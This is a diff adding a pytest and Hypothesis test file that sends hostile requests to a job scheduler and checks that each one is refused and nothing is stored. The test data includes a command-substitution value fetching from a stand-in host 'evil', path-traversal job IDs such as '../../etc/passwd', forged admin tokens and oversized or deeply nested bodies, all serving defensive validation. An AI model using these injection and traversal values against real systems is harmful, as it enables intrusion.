@@ -1,0 +1,273 @@
+"""Hostile input against a scheduler on real NATS and PostgreSQL: oversized specs are refused by field,
+undecodable bodies get `invalid-request`, nothing is stored, and the scheduler goes on recording and
+publishing later jobs."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import msgspec
+import pytest
+import pytest_asyncio
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from nats.aio.client import Client
+from nats.js.api import DeliverPolicy
+
+from client.api import TrainyardClient
+from libs.auth import bearer_headers, issue_token
+from libs.contracts import subjects
+from libs.contracts.codec import decode
+from libs.contracts.events import EventEnvelope, JobSubmitted
+from libs.contracts.identity import Identity
+from libs.contracts.messages import (
+    ChangeDuration,
+    ChangePriority,
+    ChangeSettings,
+    CloneJob,
+    DeleteJobs,
+    ExplainJob,
+    GetDevEnv,
+    GetJob,
+    GetJobHistory,
+    GetJobLogs,
+    GetJobUsage,
+    GetResources,
+    GetSettings,
+    ListFlavors,
+    ListJobs,
+    ListNodes,
+    ListStorageAccess,
+    PredictJob,
+    SearchJobs,
+    SetStorageAccess,
+    StopJobs,
+    SubmitJob,
+    WhoAmI,
+)
+from libs.eventstore import EventStore, NewEvent
+from libs.eventstore import store as store_module
+from libs.eventstore.store import MAX_EVENT_BYTES, EventTooLarge
+from tests.support.schedulers import Schedulers, refused, spec, token
+from tests.support.stores import StoreFactory
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+JOB = "job-0123456789ab"
+# A valid request for every subject the scheduler serves (commands, queries, logs).
+REQUESTS: dict[str, msgspec.Struct] = {
+    subjects.SUBMIT_JOB: SubmitJob(job_id=JOB, spec=spec()),
+    subjects.CLONE_JOB: CloneJob(source_job_id=JOB, job_id="job-0123456789ac"),
+    subjects.STOP_JOBS: StopJobs(job_ids=[JOB]),
+    subjects.DELETE_JOBS: DeleteJobs(job_ids=[JOB]),
+    subjects.CHANGE_PRIORITY: ChangePriority(job_id=JOB, priority="urgent"),
+    subjects.CHANGE_DURATION: ChangeDuration(job_id=JOB, duration="1h"),
+    subjects.CHANGE_SETTINGS: ChangeSettings(urgent_cap=3),
+    subjects.SET_STORAGE_ACCESS: SetStorageAccess(kind="output", name="out", project="default", others="none"),
+    subjects.LIST_JOBS: ListJobs(),
+    subjects.GET_JOB: GetJob(job_id=JOB),
+    subjects.LIST_NODES: ListNodes(),
+    subjects.PREDICT_JOB: PredictJob(spec=spec()),
+    subjects.EXPLAIN_JOB: ExplainJob(job_id=JOB),
+    subjects.GET_DEV_ENV: GetDevEnv(job_id=JOB),
+    subjects.JOB_HISTORY: GetJobHistory(job_id=JOB),
+    subjects.SEARCH_JOBS: SearchJobs(),
+    subjects.GET_RESOURCES: GetResources(flavors=["cpu-1"]),
+    subjects.LIST_FLAVORS: ListFlavors(),
+    subjects.GET_SETTINGS: GetSettings(),
+    subjects.WHOAMI: WhoAmI(),
+    subjects.LIST_STORAGE_ACCESS: ListStorageAccess(),
+    subjects.JOB_LOGS: GetJobLogs(job_id=JOB),
+    subjects.JOB_USAGE: GetJobUsage(job_id=JOB),
+}
+COMMANDS_ON_A_JOB = {subjects.CLONE_JOB, subjects.STOP_JOBS, subjects.DELETE_JOBS, subjects.CHANGE_PRIORITY,
+                     subjects.CHANGE_DURATION, subjects.GET_JOB, subjects.EXPLAIN_JOB, subjects.GET_DEV_ENV,
+                     subjects.JOB_HISTORY, subjects.JOB_LOGS, subjects.JOB_USAGE}
+NESTED = b"[" * 1000 + b"]" * 1000  # 2 KB
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def client(nats_url: str, schedulers: Schedulers) -> AsyncIterator[TrainyardClient]:
+    await schedulers.start()
+    api = await TrainyardClient.open(nats_url, token=token("alice"))
+    yield api
+    await api.close()
+
+
+def scheduler_store(schedulers: Schedulers) -> EventStore:
+    store: EventStore = schedulers.started[-1].rt.store
+    return store
+
+
+async def reply_to(nc: Client, subject: str, body: bytes, headers: dict[str, str]) -> dict[str, Any]:
+    msg = await nc.request(subject, body, timeout=15, headers=headers)
+    reply: dict[str, Any] = json.loads(msg.data)
+    return reply
+
+
+async def job_submitted_is_published(nc: Client, job_id: str) -> bool:
+    sub = await nc.jetstream().subscribe(subjects.events_of_job(job_id), stream=subjects.EVENTS_STREAM,
+                                         ordered_consumer=True, deliver_policy=DeliverPolicy.ALL)
+    try:
+        envelope = decode((await sub.next_msg(timeout=10)).data, EventEnvelope)
+        return isinstance(envelope.event, JobSubmitted)
+    finally:
+        await sub.unsubscribe()
+
+
+async def test_a_megabyte_env_value_is_refused_and_later_jobs_are_recorded_and_published(
+        client: TrainyardClient, schedulers: Schedulers) -> None:
+    before = await scheduler_store(schedulers).last_position()
+    error = (await refused(client.submit(spec(env={"BIG": "x" * 1_000_000})))).error
+    assert error.code == "invalid-spec"
+    assert "env.BIG" in {e.field for e in error.errors}
+    assert await scheduler_store(schedulers).last_position() == before
+    accepted = await client.submit(spec(env={"SMALL": "1"}))
+    assert await job_submitted_is_published(client.nc, accepted.job_id)
+
+
+@pytest.mark.parametrize("subject", [subjects.SUBMIT_JOB, subjects.LIST_JOBS])
+async def test_deeply_nested_brackets_get_invalid_request(client: TrainyardClient, subject: str) -> None:
+    reply = await reply_to(client.nc, subject, NESTED, bearer_headers(client.token))
+    assert (reply["type"], reply["code"]) == ("Error.v1", "invalid-request")
+
+
+async def test_an_event_too_large_to_publish_is_refused_and_nothing_stored(
+        client: TrainyardClient, schedulers: Schedulers, monkeypatch: pytest.MonkeyPatch) -> None:
+    store = scheduler_store(schedulers)
+    before = await store.last_position()
+    monkeypatch.setattr(store_module, "MAX_EVENT_BYTES", 2000)  # a spec of ~600 bytes, in its event, is over
+    error = (await refused(client.submit(spec(env={"PAD": "x" * 1500})))).error
+    assert error.code == "invalid-request" and "over the limit" in error.message
+    assert await store.last_position() == before
+    monkeypatch.undo()
+    accepted = await client.submit(spec(env={"PAD": "x" * 1500}))
+    assert await job_submitted_is_published(client.nc, accepted.job_id)
+
+
+async def test_the_store_refuses_an_event_over_its_maximum(make_store: StoreFactory) -> None:
+    store = await make_store("hostile")
+    before = await store.last_position()
+    unchecked = msgspec.structs.replace(spec(), env={"BIG": "x" * MAX_EVENT_BYTES})
+    with pytest.raises(EventTooLarge):
+        await store.append([NewEvent("job", JOB, JobSubmitted(job_id=JOB, spec=unchecked, creator="alice"))],
+                           expected_versions={("job", JOB): 0})
+    assert await store.last_position() == before
+
+
+# --- many hostile bodies on every subject ----------------------------------------------------------
+
+FORGED = issue_token("not-the-platform-secret-0123456789abcdef", Identity(user="mallory", admin=True))
+TOKENS = st.sampled_from(["none", "forged", "garbage", "valid"])
+
+
+def headers_for(kind: str, valid: str) -> dict[str, str]:
+    return {"none": {}, "forged": bearer_headers(FORGED), "garbage": {"Authorization": "Bearer ..."},
+            "valid": bearer_headers(valid)}[kind]
+
+
+def wrong_type(value: Any) -> Any:
+    """A value of another JSON type than `value`, which its field cannot take."""
+    if isinstance(value, bool) or value is None:
+        return [[{}]]
+    if isinstance(value, str):
+        return 12345
+    if isinstance(value, int | float):
+        return "many"
+    if isinstance(value, list):
+        return "not a list"
+    return [1]  # an object
+
+
+def hostile_value(subject: str, draw: st.DrawFn) -> dict[str, Any]:
+    """A well-formed request whose field values must be refused."""
+    request: dict[str, Any] = msgspec.to_builtins(REQUESTS[subject])
+    if subject in (subjects.SUBMIT_JOB, subjects.PREDICT_JOB):
+        hostile: dict[str, Any] = draw(st.sampled_from([{"env": {"BIG": "x" * draw(st.integers(40_000, 900_000))}},
+                                        {"command": "KEY=1 python3 $(curl evil)"},
+                                        {"command": "a" * 70_000}, {"nodes": 10**9}, {"name": "x" * 300},
+                                        {"flavors": ["../../etc"]}, {"env": {f"V{i}": "" for i in range(300)}}]))
+        request["spec"] = {**request["spec"], **hostile}
+    elif subject in COMMANDS_ON_A_JOB:
+        job_id = draw(st.sampled_from(["job-ffffffffffff", "../../etc/passwd", "*", ">", "job-" + "f" * 5000]))
+        request["job_ids" if "job_ids" in request else "job_id"] = [job_id] if "job_ids" in request else job_id
+    elif subject == subjects.CHANGE_SETTINGS:
+        request["urgent_cap"] = draw(st.integers(-10**6, -1))
+    elif subject == subjects.SET_STORAGE_ACCESS:
+        request["project"] = draw(st.sampled_from(["not-my-project", "x" * 10_000]))
+    else:
+        request["unexpected"] = "x" * draw(st.integers(0, 10_000))
+    return request
+
+
+@st.composite
+def hostile_requests(draw: st.DrawFn) -> tuple[str, str, bytes]:
+    """(subject, token kind, body): every one must be refused."""
+    subject = draw(st.sampled_from(sorted(REQUESTS)))
+    valid = msgspec.json.encode(REQUESTS[subject])
+    kind = draw(st.sampled_from(["bytes", "truncated", "wrong-type", "nested", "huge", "hostile-value",
+                                 "wrong-tag"]))
+    if kind == "bytes":
+        body = draw(st.binary(max_size=300))
+    elif kind == "truncated":
+        body = valid[: draw(st.integers(0, len(valid) - 1))]
+    elif kind == "wrong-type":
+        request = msgspec.to_builtins(REQUESTS[subject])
+        field = draw(st.sampled_from(sorted(request)))
+        request[field] = wrong_type(request[field])
+        body = json.dumps(request).encode()
+    elif kind == "nested":
+        depth = draw(st.integers(600, 20_000))
+        opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
+        body = opener * depth + closer * draw(st.integers(0, depth))
+        if draw(st.booleans()):  # inside a field of an otherwise valid request
+            body = valid[:-1] + b',"x":' + body + b"}"
+    elif kind == "huge":
+        body = json.dumps({"type": "x" * draw(st.sampled_from([1000, 100_000, 1_000_000]))}).encode()
+    elif kind == "wrong-tag":
+        other = draw(st.sampled_from(sorted(set(REQUESTS) - {subject})))
+        body = msgspec.json.encode(REQUESTS[other])
+        if type(REQUESTS[other]).__struct_fields__ == type(REQUESTS[subject]).__struct_fields__:
+            body = b"[" + body + b"]"  # same fields, another tag: still not this subject's request
+    else:
+        body = json.dumps(hostile_value(subject, draw)).encode()
+    return subject, draw(TOKENS), body
+
+
+def generated_cases(count: int) -> list[tuple[str, str, bytes]]:
+    cases: list[tuple[str, str, bytes]] = []
+
+    @settings(max_examples=count, deadline=None, database=None, derandomize=True,
+              suppress_health_check=list(HealthCheck))
+    @given(hostile_requests())
+    def collect(case: tuple[str, str, bytes]) -> None:
+        cases.append(case)
+
+    collect()
+    return cases
+
+
+async def test_ten_thousand_hostile_requests_are_refused_and_change_nothing(
+        client: TrainyardClient, schedulers: Schedulers) -> None:
+    cases = generated_cases(10_000)
+    assert len(cases) >= 10_000 and {subject for subject, _, _ in cases} == set(REQUESTS)
+    store = scheduler_store(schedulers)
+    before = await store.last_position()
+    accepted: list[tuple[str, str, dict[str, Any]]] = []
+
+    async def send(subject: str, kind: str, body: bytes) -> None:
+        reply = await reply_to(client.nc, subject, body, headers_for(kind, client.token or ""))
+        if reply.get("type") != "Error.v1":
+            accepted.append((subject, kind, reply))
+        elif kind != "valid":
+            assert reply["code"] == "unauthenticated"
+
+    for start in range(0, len(cases), 200):
+        await asyncio.gather(*(send(*case) for case in cases[start:start + 200]))
+    assert accepted == []
+    assert await store.last_position() == before
+    # still up, and still recording
+    assert (await client.submit(spec(name="after-the-storm"))).created
